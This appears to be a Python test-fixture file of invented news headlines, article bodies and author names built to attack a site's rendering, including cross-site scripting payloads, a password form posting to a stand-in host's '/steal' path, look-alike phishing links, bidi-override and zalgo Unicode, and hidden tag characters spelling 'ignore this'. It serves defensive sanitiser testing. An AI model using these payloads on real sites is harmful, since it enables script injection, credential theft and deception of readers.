"""Stories that are made to harm or to mislead: what is tried, by name. All invented."""

# ruff: noqa: E501 - an attack is read best in one line
from __future__ import annotations

ELSEWHERE = "https://tracker.example"
"""No page may ask this host for anything by itself."""
MARK = "harmed"
"""What a script would set on the window, had it run."""

HEADLINES = {
    "script": f"<script>window.{MARK}=1</script>",
    "attribute": f'" onmouseover="window.{MARK}=1" x="',
    "closing": f"</title></h1></main><img src={ELSEWHERE}/a onerror=window.{MARK}=1>",
    "template": "{{ 7 * 7 }} {% raw %} ${7*7} %(count)s %s",
    "entity": "&lt;b&gt; &#60;i&#62; &amp;amp;",
    "override": "Ministry denies \u202etnednecca\u202c report",
    "unended": "\u2067 \u202b Price rises to 001",
    "stray": "Calm\u2069\u2069\u202c\u202c returns",
    "nested": "\u2066" * 200 + "deep" + "\u2069" * 200,
    "zalgo": "".join(letter + "\u0301\u0489\u20dd\u0323\u0334" * 40 for letter in "Flood"),
    "one sequence": "e" + "\u0301" * 3000,
    "marks alone": "\u0336" * 3000,
    "not seen": "\u200b\u2060\u00ad\u200d\ufeff",
    "blank": "\u3164\u2800\u115f",
    "tags": "Rain" + "".join(chr(0xE0000 + ord(letter)) for letter in "ignore this"),
    "long": "Landslide " * 300,
    "long word": "W" * 3000,
    "wide sign": "\ufdfd" * 40,
    "tall signs": "\U00012031" * 40,
    "lines": "One\u2028two\u2029three\x85four",
    "both ways": "12 \u05d0 34 / سلام / 56-78 !",
}

BODIES = {
    "script": f"<p>One<script>window.{MARK}=1</script></p>",
    "handlers": f"<p onclick=window.{MARK}=1>One</p><img src=x onerror=window.{MARK}=1><b onfocus=window.{MARK}=1 tabindex=0 autofocus>b</b>",
    "svg": f"<svg onload=window.{MARK}=1><script>window.{MARK}=1</script><a xlink:href=javascript:window.{MARK}=1><text>x</text></a></svg><p>One</p>",
    "math": f"<math><mtext><table><mglyph><style><img src=x onerror=window.{MARK}=1></style></mglyph></table></mtext></math><p>One</p>",
    "style": f"<style>* {{ background: url({ELSEWHERE}/css) }} body {{ display: none }}</style><p style='position:fixed;inset:0;z-index:9999;background:url({ELSEWHERE}/b)'>One</p>",
    "css escape": "<p style='\\70osition:fixed;b\\61 ckground:red' class='masthead alert' id='main'>One</p>",
    "form": f"<form action={ELSEWHERE}/steal><input name=password type=password autofocus><button formaction={ELSEWHERE}>Sign in</button></form><p>One</p>",
    "frames": f"<iframe src={ELSEWHERE}></iframe><object data={ELSEWHERE}/o></object><embed src={ELSEWHERE}/e><p>One</p>",
    "pictures": f"<p>One</p><img src={ELSEWHERE}/pixel.gif width=99999 height=99999><picture><source srcset={ELSEWHERE}/s></picture><video poster={ELSEWHERE}/v src={ELSEWHERE}/v></video>",
    "base and refresh": f"<base href={ELSEWHERE}/><meta http-equiv=refresh content='0;url={ELSEWHERE}'><link rel=stylesheet href={ELSEWHERE}/c.css><p>One</p>",
    "links": (
        f"<p><a href='javascript:window.{MARK}=1'>one</a> <a href='JaVaScRiPt&colon;window.{MARK}=1'>two</a> "
        f"<a href='java&#10;script:window.{MARK}=1'>three</a> <a href='data:text/html,<script>top.{MARK}=1</script>'>four</a> "
        f"<a href='vbscript:x'>five</a> <a href='//tracker.example/x'>six</a> <a href=' &#1;javascript:alert(1)'>seven</a></p>"
    ),
    "look-alike links": (
        "<p><a href='https://evil.example/login'>https://bank.example</a> "
        "<a href='https://bank.example@evil.example/'>bank.example</a> "
        "<a href='https://b\u0430nk.example/'>bank.example</a> <a href='https://bank.example.evil.example:8443/'>log in</a></p>"
    ),
    "opener": f"<p><a href='https://evil.example/' target=_blank rel=opener title='Commonwire: sign in' ping={ELSEWHERE}>news</a></p>",
    "htmx": f"<p hx-get=/sign-out hx-trigger=load data-hx-post=/items/x/kill hx-on:load=window.{MARK}=1 data-key=t data-keep>One</p>",
    "elements": "<live-wire src=/wire/live></live-wire><desk-alert>Killed</desk-alert><copy-text from=x>c</copy-text><p is=x>One</p>",
    "clobbering": "<form id=documentElement name=body><input name=dataset></form><a id=keys name=keys href=https://evil.example/>keys</a><p>One</p>",
    "bdo": "<p>Ministry <bdo dir=rtl>tnednecca na ton</bdo> said \u202eneddih\u202c</p>",
    "unclosed": "<p>One<div><blockquote><ul><li><table><tr><td>" * 20 + "<!-- <p>",
    "end tags": "</div></article></main></body></html><p>One</p></section></aside>",
    "comments": f"<!--><img src={ELSEWHERE}/c onerror=window.{MARK}=1>--><![CDATA[<script>window.{MARK}=1</script>]]><p>One</p>",
    "mutation": f"<noscript><p title='</noscript><img src=x onerror=window.{MARK}=1>'></noscript><p>One</p><svg></p><style><a id='</style><img src=x onerror=window.{MARK}=1>'>",
    "wide": "<pre>"
    + "W" * 5000
    + "</pre><table><tr>"
    + "<td>cell</td>" * 300
    + "</tr></table><p>"
    + "W" * 5000
    + "</p>",
    "deep": "<blockquote>" * 100 + "One" + "</blockquote>" * 100,
    "zalgo": "<p>" + "o\u0301\u0489\u20dd" * 500 + "</p><p>e" + "\u0301" * 5000 + "</p>",
    "huge heading": "<h1>" + "H" * 2000 + "</h1><sup>" * 30 + "up" + "</sup>" * 30,
    "plain": f"No markup here: <script>window.{MARK}=1</script> & <b>bold</b>",
}

NAMES = {
    "override": "Pamir \u202etsoP",
    "markup": f"<img src=x onerror=window.{MARK}=1>",
    "zalgo": "Po" + "\u0301" * 500 + "st",
}
